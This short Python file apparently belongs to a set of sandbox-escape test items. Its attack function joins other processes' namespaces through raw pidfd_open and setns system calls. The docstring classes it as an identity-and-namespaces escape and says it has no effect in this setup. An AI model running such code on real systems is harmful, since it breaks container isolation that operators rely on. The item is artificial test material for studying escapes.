"""Class: identity and namespaces. Source: own find. Escape: another process's namespaces are
entered. Teeth: none, the tests and the victim share theirs.
"""

import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    for pid in scene["processes"].values():
        for flag in (0x10000000, 0x40000000, 0x20000, 0x4000000, 0x8000000):
            if libc.syscall(308, libc.syscall(434, pid, 0), flag) == 0:
                time.sleep(0.3)
